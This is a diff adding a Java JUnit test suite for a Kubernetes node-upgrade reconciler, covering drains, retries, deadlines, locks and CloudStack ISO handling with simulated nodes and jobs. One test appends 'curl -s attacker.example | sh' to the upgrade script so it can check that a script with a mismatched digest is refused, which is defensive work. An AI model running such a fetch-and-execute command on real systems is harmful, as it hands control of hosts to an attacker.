@@ -1,0 +1,426 @@
+package dev.cks.nodeops.upgrade;
+
+import static dev.cks.nodeops.testing.FakeNodeWork.givesUp;
+import static dev.cks.nodeops.testing.FakeNodeWork.heldBy;
+import static dev.cks.nodeops.testing.FakeNodeWork.moving;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.time.Instant;
+import java.util.HashSet;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.function.Predicate;
+
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Test;
+
+import dev.cks.nodeops.cloudstack.CloudStackAccess;
+import dev.cks.nodeops.cloudstack.CloudStackClient;
+import dev.cks.nodeops.cloudstack.ManualTime;
+import dev.cks.nodeops.cloudstack.simulator.CloudStackSimulator;
+import dev.cks.nodeops.cloudstack.simulator.JobOutcome;
+import dev.cks.nodeops.cloudstack.simulator.NodeRole;
+import dev.cks.nodeops.cloudstack.simulator.Owner;
+import dev.cks.nodeops.cloudstack.simulator.SimulatedCluster;
+import dev.cks.nodeops.cloudstack.simulator.SimulatedVersion;
+import dev.cks.nodeops.common.Conditions;
+import dev.cks.nodeops.common.NodeAnnotations;
+import dev.cks.nodeops.common.OperationMetrics;
+import dev.cks.nodeops.drain.Preflight;
+import dev.cks.nodeops.operation.DrainTick;
+import dev.cks.nodeops.operation.OperationRecorder;
+import dev.cks.nodeops.testing.FakeNodeWork;
+import dev.cks.nodeops.testing.ReconcileLoop;
+import dev.cks.nodeops.testing.RecordingEvents;
+import dev.cks.nodeops.testing.RecordingStatusStore;
+import dev.cks.nodeops.testing.SimulatedCloudStack;
+import dev.cks.nodeops.testing.TestNodes;
+import dev.cks.nodeops.testing.TestSettings;
+import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Action;
+import dev.cks.nodeops.upgrade.UpgradeNodeStatus.IsoState;
+import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Phase;
+import io.fabric8.kubernetes.api.model.Condition;
+import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
+import io.fabric8.kubernetes.client.utils.Serialization;
+import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
+
+/**
+ * NodeUpgrade's lifecycle without a cluster: nodes in {@link FakeNodeWork}, Jobs in {@link FakeUpgradeJobs}
+ * (the test plays the kubelet: a succeeded Job brings its node back Ready at the target), CloudStack the
+ * project's simulator over HTTP with the real client, time moved by hand.
+ */
+class NodeUpgradeReconcilerTest {
+    private static final String FROM = "v1.34.2";
+    private static final String TARGET = "v1.35.4";
+    private static final String CONTROL = "prod-control-a1";
+    private static final String W1 = "prod-node-b1";
+    private static final String W2 = "prod-node-b2";
+
+    private final ManualTime clock = new ManualTime(Instant.parse("2026-11-30T12:00:00Z"));
+    private final SimpleMeterRegistry registry = new SimpleMeterRegistry();
+    private final SimulatedCloudStack cloudStack = new SimulatedCloudStack(clock, registry);
+    private final CloudStackSimulator simulator = cloudStack.simulator;
+    private final CloudStackClient client = cloudStack.client;
+    private final FakeNodeWork nodes = new FakeNodeWork();
+    private final FakeUpgradeJobs jobs = new FakeUpgradeJobs();
+    private final RecordingEvents events = new RecordingEvents();
+    private final RecordingStatusStore store = new RecordingStatusStore();
+    private final TestSettings settings = new TestSettings();
+    private static final String SCRIPT = "#!/bin/sh\nkubeadm upgrade \"$2\"\n";
+    private final SimulatedVersion version = simulator.addSupportedVersion(TARGET.substring(1));
+    private final SimulatedCluster cluster = simulator.addCluster("prod", Owner.of(simulator.defaultAccount()), "CloudManaged", version.id());
+    /** Nodes whose Job the "kubelet" lets fail; every other Job succeeds and brings its node back at the target. */
+    private final Set<String> failingJobs = new HashSet<>();
+    private boolean jobsFinish = true;
+    private NodeUpgradeReconciler reconciler;
+    private NodeUpgrade upgrade;
+
+    NodeUpgradeReconcilerTest() {
+        simulator.addClusterVm(cluster, CONTROL, NodeRole.CONTROL);
+        nodes.add(TestNodes.node(CONTROL).controlPlane().version(FROM).created("2025-06-01T00:00:00Z").build());
+        for (String worker : List.of(W1, W2)) {
+            simulator.addClusterVm(cluster, worker, NodeRole.WORKER);
+            nodes.add(TestNodes.node(worker).version(FROM).build());
+        }
+        jobs.configMaps.put("upgrade", Map.of("upgrade.sh", SCRIPT));
+        settings.scriptSha256.add(ScriptTrust.sha256(SCRIPT));
+        restartOperator();
+    }
+
+    private void restartOperator() {
+        CloudStackAccess access = cloudStack.access(cluster.id());
+        OperationRecorder recorder = new OperationRecorder(NodeUpgradeReconciler.KIND, events, new OperationMetrics(registry));
+        reconciler = new NodeUpgradeReconciler(clock, settings, access, nodes, recorder, store, jobs);
+    }
+
+    @AfterEach
+    void stopSimulator() {
+        cloudStack.close();
+    }
+
+    private NodeUpgrade create(UpgradeExecutor.Type type, java.util.function.Consumer<NodeUpgradeSpec> tweak) {
+        NodeUpgradeSpec spec = new NodeUpgradeSpec();
+        spec.setTargetVersion(TARGET);
+        UpgradeExecutor executor = type == UpgradeExecutor.Type.Script ? UpgradeBed.script("upgrade", "upgrade.sh") : new UpgradeExecutor();
+        executor.setType(type);
+        spec.setExecutor(executor);
+        spec.getDrain().setRetries(0);
+        tweak.accept(spec);
+        upgrade = new NodeUpgrade();
+        upgrade.setMetadata(new ObjectMetaBuilder().withName("to-1-35").withGeneration(1L).withUid("uid-7").withAnnotations(new java.util.HashMap<>()).build());
+        upgrade.setSpec(spec);
+        return upgrade;
+    }
+
+    /** Reconciles as JOSDK would, moving the clock by each asked delay and playing the kubelet, until the predicate holds. */
+    private NodeUpgradeStatus reconcileUntil(String what, Predicate<NodeUpgradeStatus> until) {
+        return new ReconcileLoop<NodeUpgrade, NodeUpgradeStatus>(u -> reconciler.reconcile(u, null), clock, this::playKubelets, this::describe)
+                .until(upgrade, what, until);
+    }
+
+    private void playKubelets() {
+        if (!jobsFinish) {
+            return;
+        }
+        jobs.jobs.values().stream().filter(job -> job.getStatus() == null).toList().forEach(job -> {
+            String node = job.getMetadata().getLabels().get(UpgradeJob.LABEL_NODE);
+            boolean succeeds = !failingJobs.contains(node);
+            jobs.finish(node, succeeds);
+            if (succeeds) {
+                nodes.get(node).getStatus().getNodeInfo().setKubeletVersion(TARGET);
+            }
+        });
+    }
+
+    private NodeUpgradeStatus reconcileToEnd() {
+        return reconcileUntil("finished", NodeUpgradeStatus::finished);
+    }
+
+    private String describe() {
+        NodeUpgradeStatus status = upgrade.getStatus();
+        return "phase " + status.getPhase() + ", message " + status.getMessage() + ", nodes "
+                + status.getNodes().stream().map(n -> n.getName() + "=" + n.getPhase()).toList() + ", conditions " + status.getConditions();
+    }
+
+    private Condition condition(String type) {
+        return Conditions.find(upgrade.getStatus().getConditions(), type).orElseThrow(() -> new AssertionError("no " + type + ": " + describe()));
+    }
+
+    private UpgradeNodeStatus node(String name) {
+        return upgrade.getStatus().getNodes().stream().filter(n -> n.getName().equals(name)).findFirst().orElseThrow();
+    }
+
+    @Test
+    void upgradesTheFirstControlPlaneNodeWithApplyThenEachWorkerOneAtATime() {
+        create(UpgradeExecutor.Type.Script, spec -> { });
+
+        NodeUpgradeStatus status = reconcileToEnd();
+
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
+        assertThat(status.getNodes()).extracting(UpgradeNodeStatus::getName, UpgradeNodeStatus::getAction)
+                .containsExactly(org.assertj.core.groups.Tuple.tuple(CONTROL, Action.Apply), org.assertj.core.groups.Tuple.tuple(W1, Action.Node),
+                        org.assertj.core.groups.Tuple.tuple(W2, Action.Node));
+        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL, W1, W2);
+        assertThat(nodes.calls).containsSubsequence("cordon " + CONTROL, "drain " + CONTROL, "release " + CONTROL + " uncordon",
+                "cordon " + W1, "drain " + W1, "release " + W1 + " uncordon", "cordon " + W2);
+        assertThat(status.getNodes()).allSatisfy(n -> {
+            assertThat(n.getPhase()).isEqualTo(Phase.Succeeded);
+            assertThat(n.getVersion()).isEqualTo(TARGET);
+            assertThat(n.getFromVersion()).isEqualTo(FROM);
+        });
+        List.of(CONTROL, W1, W2).forEach(n -> assertThat(nodes.ours(n)).isEmpty());
+        assertThat(condition(Conditions.SUCCEEDED).getReason()).isEqualTo("AllNodesUpgraded");
+        assertThat(condition(Conditions.ACCEPTED).getReason()).isEqualTo("Planned");
+        assertThat(events.reasons()).containsSubsequence(OperationRecorder.ACCEPTED, OperationRecorder.CORDONED, OperationRecorder.DRAINING,
+                OperationRecorder.NODE_DRAINED, "Upgrading", "WaitingReady", "NodeUpgraded", "Succeeded");
+        assertThat(registry.get("cks.operations").tag("kind", "NodeUpgrade").tag("outcome", "Succeeded").counter().count()).isEqualTo(1.0);
+    }
+
+    @Test
+    void aBlockedDrainFailsThatNodeAndARetryResumesThereWithoutApplyingAgain() {
+        nodes.thenDrain(W1, (state, now) -> givesUp(state, "Node " + W1 + " still has 1 pod: pdb shop/web: needs 2 healthy, has 2, 0 disruptions allowed"));
+        create(UpgradeExecutor.Type.Script, spec -> { });
+
+        NodeUpgradeStatus failed = reconcileToEnd();
+
+        assertThat(failed.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
+        assertThat(condition(Conditions.FAILED).getReason()).isEqualTo("NodeFailed");
+        assertThat(condition(Conditions.FAILED).getMessage()).contains("failed at node " + W1).contains("pdb shop/web").contains("nodeops.cks.dev/retry");
+        assertThat(node(W1).getPhase()).isEqualTo(Phase.Failed);
+        assertThat(nodes.isCordoned(W1)).isFalse();
+        assertThat(nodes.ours(W1)).isEmpty();
+
+        upgrade.getMetadata().getAnnotations().put(NodeAnnotations.RETRY, "1");
+        NodeUpgradeStatus retried = reconcileToEnd();
+
+        assertThat(retried.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
+        assertThat(node(CONTROL).getAction()).as("already at the target: no second apply").isEqualTo(Action.Skip);
+        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL, W1, W2);
+        assertThat(Conditions.find(retried.getConditions(), Conditions.FAILED)).isEmpty();
+    }
+
+    @Test
+    void aScriptChangedInItsConfigMapIsRefusedBeforeAnyNodeIsCordonedAndTheJobRunsOnlyTheCheckedDigest() {
+        create(UpgradeExecutor.Type.Script, spec -> { });
+        reconcileUntil("the first Job", s -> jobs.hasJob(CONTROL));
+        assertThat(jobs.jobOf(CONTROL).getMetadata().getAnnotations()).containsEntry(UpgradeJob.ANNOTATION_SCRIPT_SHA256, ScriptTrust.sha256(SCRIPT));
+
+        jobs.configMaps.put("upgrade", Map.of("upgrade.sh", SCRIPT + "curl -s attacker.example | sh\n"));
+        NodeUpgradeStatus status = reconcileToEnd();
+
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
+        assertThat(node(W1).getError()).contains("does not list").contains("Nothing was cordoned");
+        assertThat(nodes.calls).doesNotContain("cordon " + W1);
+        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL);
+    }
+
+    @Test
+    void aFailedJobFailsTheNodeWithTheJobsReasonAndLogAndUncordonsIt() {
+        failingJobs.add(CONTROL);
+        create(UpgradeExecutor.Type.Script, spec -> { });
+
+        reconcileToEnd();
+
+        assertThat(node(CONTROL).getError()).contains("BackoffLimitExceeded").contains("the control plane did not come up");
+        assertThat(nodes.isCordoned(CONTROL)).isFalse();
+        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL);
+        assertThat(events.all()).filteredOn(e -> e.reason().equals("Failed")).singleElement().satisfies(e -> assertThat(e.type()).isEqualTo("Warning"));
+    }
+
+    @Test
+    void theDeadlinePassingInEachPhaseFailsTheNodeAndGivesItBack() {
+        for (int i = 0; i < 100; i++) {
+            nodes.thenDrain(CONTROL, (state, now) -> moving(state, now.plusSeconds(5), 3));
+        }
+        create(UpgradeExecutor.Type.Script, spec -> spec.setTimeoutSeconds(60));
+        reconcileToEnd();
+        assertThat(condition(Conditions.FAILED).getMessage()).contains("deadline").contains("was Draining");
+        assertThat(nodes.isCordoned(CONTROL)).isFalse();
+    }
+
+    @Test
+    void theDeadlinePassingWhileWaitingForReadyFailsTheNode() {
+        create(UpgradeExecutor.Type.Script, spec -> spec.setTimeoutSeconds(120));
+        reconcileUntil("the control plane's Job", s -> jobs.hasJob(CONTROL));
+        jobsFinish = false;
+        jobs.finish(CONTROL, true);
+        // the kubelet never comes back at the target
+        NodeUpgradeStatus status = reconcileToEnd();
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
+        assertThat(condition(Conditions.FAILED).getMessage()).contains("deadline").contains("was WaitingReady");
+    }
+
+    @Test
+    void aBlockedDrainShowsTheBudgetAndItsNumbersAndWarnsOnce() {
+        for (int i = 0; i < 15; i++) {
+            nodes.thenDrain(CONTROL, (state, now) -> heldBy(state, now.plusSeconds(1), "kube-system/coredns", "needs 1 healthy, has 1, 0 disruptions allowed", 1));
+        }
+        create(UpgradeExecutor.Type.Script, spec -> { });
+
+        NodeUpgradeStatus blocked = reconcileUntil("blocked", s -> s.getMessage() != null && s.getMessage().contains("blocked for"));
+
+        assertThat(condition(Conditions.PROGRESSING).getMessage()).contains("pdb kube-system/coredns: needs 1 healthy, has 1, 0 disruptions allowed");
+        assertThat(blocked.getMessage()).startsWith("Draining node " + CONTROL);
+        assertThat(registry.get("cks.drain.blocked").tag("node", CONTROL).gauge().value()).isEqualTo(1.0);
+        reconcileToEnd();
+        assertThat(events.all()).filteredOn(e -> e.reason().equals(OperationRecorder.DRAIN_BLOCKED)).hasSize(1);
+        assertThat(registry.get("cks.drain.blocked").tag("node", CONTROL).gauge().value()).isEqualTo(0.0);
+        assertThat(DrainTick.BLOCKED_AFTER).isPositive();
+    }
+
+    @Test
+    void waitsForANodeLockedByAnotherOperationAndResumesWhenItIsReleased() {
+        nodes.get(CONTROL).getMetadata().getAnnotations().put(NodeAnnotations.LOCK, "ScaleDown/other");
+        create(UpgradeExecutor.Type.Script, spec -> { });
+
+        reconcileUntil("waiting", s -> s.getPhase() == NodeUpgradeStatus.Phase.Waiting);
+        assertThat(condition(Conditions.WAITING).getReason()).isEqualTo("NodeLocked");
+        assertThat(condition(Conditions.WAITING).getMessage()).contains("locked by ScaleDown/other");
+        assertThat(nodes.isCordoned(CONTROL)).isFalse();
+
+        nodes.get(CONTROL).getMetadata().getAnnotations().remove(NodeAnnotations.LOCK);
+        NodeUpgradeStatus done = reconcileToEnd();
+        assertThat(done.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
+        assertThat(Conditions.find(done.getConditions(), Conditions.WAITING)).as("removed on resume").isEmpty();
+    }
+
+    @Test
+    void preflightFailRefusesWithAcceptedFalseBeforeAnyCordon() {
+        var numbers = new dev.cks.nodeops.drain.BlockedByReport.BudgetNumbers("shop", "web", 2, 2, 0, 2);
+        nodes.prediction = new dev.cks.nodeops.drain.PreflightPrediction.Report(Map.of(),
+                List.of(new dev.cks.nodeops.drain.PreflightPrediction.BudgetPressure(numbers, Map.of(W1, List.of("shop/web-1")), true)));
+        create(UpgradeExecutor.Type.Script, spec -> spec.setPreflight(Preflight.Fail));
+
+        NodeUpgradeStatus status = reconcileToEnd();
+
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
+        assertThat(condition(Conditions.ACCEPTED).getStatus()).isEqualTo("False");
+        assertThat(condition(Conditions.ACCEPTED).getReason()).isEqualTo(OperationRecorder.REFUSED);
+        assertThat(condition(Conditions.ACCEPTED).getMessage()).contains("pdb shop/web").contains("Nothing was cordoned");
+        assertThat(nodes.calls).containsExactly("preflight " + CONTROL + "," + W1 + "," + W2);
+    }
+
+    @Test
+    void anInvalidSpecIsRefusedAndCounted() {
+        create(UpgradeExecutor.Type.Script, spec -> spec.setExecutor(null));
+
+        reconcileToEnd();
+
+        assertThat(condition(Conditions.ACCEPTED).getReason()).isEqualTo(OperationRecorder.INVALID_SPEC);
+        assertThat(registry.get("cks.operations").tag("kind", "NodeUpgrade").tag("outcome", "Failed").counter().count()).isEqualTo(1.0);
+        assertThat(nodes.calls).isEmpty();
+    }
+
+    @Test
+    void anApiErrorOnCordonIsRetriedAndALastingRefusalFailsTheNodeUntouched() {
+        nodes.failCordon(CONTROL, FakeNodeWork.apiDown());
+        create(UpgradeExecutor.Type.Script, spec -> { });
+        reconcileUntil("planned", s -> s.getPhase() == NodeUpgradeStatus.Phase.Running);
+        assertThatThrownBy(() -> reconciler.reconcile(upgrade, null)).hasMessageContaining("API server is restarting");
+        reconciler.updateErrorStatus(upgrade, null, FakeNodeWork.apiDown());
+        assertThat(condition(Conditions.WAITING).getReason()).isEqualTo(OperationRecorder.RETRYING);
+
+        nodes.failCordon(CONTROL, null);
+        nodes.refuseCordon(CONTROL, "Node " + CONTROL + " could not be cordoned: nodes is forbidden");
+        NodeUpgradeStatus status = reconcileToEnd();
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
+        assertThat(node(CONTROL).getError()).contains("forbidden");
+        assertThat(nodes.ours(CONTROL)).isEmpty();
+    }
+
+    @Test
+    void cloudStackIsoAttachesTheIsoOnceRunsTheNodeScriptAndDetachesIt() {
+        create(UpgradeExecutor.Type.CloudStackIso, spec -> spec.setNodeSelector(Map.of("kubernetes.io/hostname", W1)));
+
+        NodeUpgradeStatus status = reconcileToEnd();
+
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
+        assertThat(simulator.calls("attachIso")).hasSize(1);
+        assertThat(simulator.calls("detachIso")).hasSize(1);
+        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
+        assertThat(node(W1).getIsoState()).isEqualTo(IsoState.Detached);
+        assertThat(jobs.scripts).containsKey(CloudStackIsoExecutor.SCRIPT_CONFIGMAP + "/" + CloudStackIsoExecutor.SCRIPT_KEY);
+        assertThat(jobs.jobOf(W1).getSpec().getTemplate().getSpec().getContainers().get(0).getCommand()).contains("1.35.4", "false", "false");
+        assertThat(events.reasons()).containsSubsequence("IsoAttached", "Upgrading", "IsoDetached", "NodeUpgraded");
+    }
+
+    @Test
+    void cloudStackIsoDetachesTheIsoAlsoWhenTheJobFailsBeforeGivingTheNodeUp() {
+        failingJobs.add(W1);
+        simulator.planJob("detachIso", JobOutcome.succeedsAfterPolls(3));
+        create(UpgradeExecutor.Type.CloudStackIso, spec -> spec.setNodeSelector(Map.of("kubernetes.io/hostname", W1)));
+
+        NodeUpgradeStatus status = reconcileToEnd();
+
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
+        assertThat(simulator.calls("detachIso")).hasSize(1);
+        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
+        assertThat(nodes.calls.indexOf("release " + W1 + " uncordon")).as("given back after the ISO is gone").isPositive();
+        assertThat(events.reasons()).containsSubsequence("IsoDetached", "Failed");
+    }
+
+    @Test
+    void cloudStackIsoRestartedAfterRecordingTheAttachButBeforeItsJobIdAttachesOnlyOnce() {
+        create(UpgradeExecutor.Type.CloudStackIso, spec -> spec.setNodeSelector(Map.of("kubernetes.io/hostname", W1)));
+        reconcileUntil("attach asked for", s -> s.getNodes().stream().anyMatch(n -> n.getIsoJobId() != null));
+        String intentOnly = store.persisted.stream().filter(json -> json.contains("\"isoState\":\"Attaching\"") && !json.contains("isoJobId"))
+                .reduce((a, b) -> b).orElseThrow();
+        // CloudStack finishes the attach while the operator is down.
+        client.queryAsyncJob(node(W1).getIsoJobId());
+
+        upgrade.setStatus(Serialization.unmarshal(intentOnly, NodeUpgradeStatus.class));
+        restartOperator();
+        NodeUpgradeStatus status = reconcileToEnd();
+
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
+        assertThat(simulator.calls("attachIso")).hasSize(1);
+        assertThat(simulator.calls("detachIso")).hasSize(1);
+    }
+
+    @Test
+    void cloudStackIsoWaitsWhileTheSecretIsMissingWithoutCordoning() {
+        cloudStack.secretMissing = true;
+        create(UpgradeExecutor.Type.CloudStackIso, spec -> spec.setNodeSelector(Map.of("kubernetes.io/hostname", W1)));
+
+        reconcileUntil("waiting", s -> s.getPhase() == NodeUpgradeStatus.Phase.Waiting);
+        assertThat(condition(Conditions.WAITING).getMessage()).contains("cloudstack-secret does not exist");
+        assertThat(nodes.calls).noneMatch(c -> c.startsWith("cordon"));
+
+        cloudStack.secretMissing = false;
+        assertThat(reconcileToEnd().getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
+    }
+
+    @Test
+    void cloudStackIsoRefusesANodeWithoutAVmBeforeCordoningIt() {
+        nodes.add(TestNodes.node("prod-node-unmapped").version(FROM).build());
+        create(UpgradeExecutor.Type.CloudStackIso, spec -> spec.setNodeSelector(Map.of("kubernetes.io/hostname", "prod-node-unmapped")));
+
+        reconcileToEnd();
+
+        assertThat(condition(Conditions.FAILED).getMessage()).contains("not in the VM map").contains("Script executor");
+        assertThat(nodes.calls).noneMatch(c -> c.startsWith("cordon"));
+        assertThat(simulator.calls("attachIso")).isEmpty();
+    }
+
+    @Test
+    void deletingItMidDrainUncordonsButMidJobOnlyReleases() {
+        for (int i = 0; i < 20; i++) {
+            nodes.thenDrain(CONTROL, (state, now) -> moving(state, now.plusSeconds(1), 2));
+        }
+        create(UpgradeExecutor.Type.Script, spec -> { });
+        reconcileUntil("draining", s -> s.getNodes().stream().anyMatch(n -> n.getPhase() == Phase.Draining));
+        reconciler.cleanup(upgrade, null);
+        assertThat(nodes.isCordoned(CONTROL)).isFalse();
+        assertThat(nodes.ours(CONTROL)).isEmpty();
+
+        create(UpgradeExecutor.Type.Script, spec -> { });
+        jobsFinish = false;
+        reconcileUntil("upgrading", s -> s.getNodes().stream().anyMatch(n -> n.getPhase() == Phase.Upgrading && n.getJobName() != null));
+        reconciler.cleanup(upgrade, null);
+        assertThat(nodes.isCordoned(CONTROL)).as("kubeadm may be restarting the kubelet").isTrue();
+        assertThat(nodes.get(CONTROL).getMetadata().getAnnotations()).doesNotContainKey(NodeAnnotations.LOCK);
+        assertThat(events.reasons()).contains("LeftCordoned");
+    }
+}
